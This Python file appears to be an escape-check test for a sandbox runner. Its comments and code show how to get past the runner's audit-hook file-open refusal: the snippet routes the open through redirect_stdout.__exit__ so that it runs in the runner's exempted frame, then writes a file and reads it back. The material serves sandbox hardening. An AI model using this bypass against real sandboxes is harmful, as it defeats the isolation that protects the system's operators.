# technique: the audit hook returns at once for any event raised while a frame of the runner's own file is current ('this file's own checks'), and the runner's catch_warnings/redirect_stdout replacements call methods of objects the snippet supplies: __exit__(obj) runs obj.__dict__['saved'].pop(); with pop set to a C callable (functools.partial(io.FileIO, path, 'w'), io.FileIO from PrettyPrinter()._stream through the self exemption) the open event is raised with the runner's frame current and passes; redirect_stdout.__exit__ stores the returned file object in sys.stdout, where a new PrettyPrinter picks it up: a write to a path the hook refused a moment before goes through, and the file reads back
# source: frame-based self-exemptions in Python audit hooks (PEP 578) + trusted helpers calling back into untrusted objects with a foreign self (137-139, 148)
# note: the write goes to the child's private /tmp (the kernel layers still hold); it shows the runtime layer's open refusal bypassed; with a run-time format string's bound method (171) as the C callable, frame reads pass the same way
# ---- escape check: tests/corpus/escape_check.py, put here by run_corpus.py ----

import contextlib, functools, pprint


def stream_of(self):
    return self._stream


STDOUT = stream_of(pprint.PrettyPrinter())
FileIO = type(STDOUT.buffer.raw)  # io.FileIO


class Saved:
    pass


class Carrier:
    pass


def set_stdout(value_factory):
    # redirect_stdout.__exit__(obj): setattr(sys, 'stdout', obj.__dict__['saved'].pop())
    saved = Saved()
    saved.pop = value_factory
    obj = Carrier()
    obj.saved = saved
    contextlib.redirect_stdout.__exit__(obj, None, None, None)


def open_via_runner(path, mode):
    set_stdout(functools.partial(FileIO, path, mode))  # opened in the runner's frame
    f = stream_of(pprint.PrettyPrinter())  # sys.stdout is now the file
    set_stdout(functools.partial(lambda: STDOUT))  # put the real stream back
    return f


try:
    FileIO('/tmp/ts-escape-direct', 'w')
    refused_before = False
except BaseException as e:
    refused_before = True
    print('BLOCKED direct open:', type(e).__name__, str(e)[:100])
try:
    f = open_via_runner('/tmp/ts-escape-via-runner', 'w')
    f.write(b'written past the audit hook')
    f.close()
    g = open_via_runner('/tmp/ts-escape-via-runner', 'r')
    back = g.read()
    g.close()
    if refused_before and back == b'written past the audit hook':
        print('ESCAPED open refused by the audit hook goes through in the runner frame:', back)
    else:
        print('BLOCKED nothing read back:', back)
except BaseException as e:
    print('BLOCKED via the runner:', type(e).__name__, str(e)[:160])
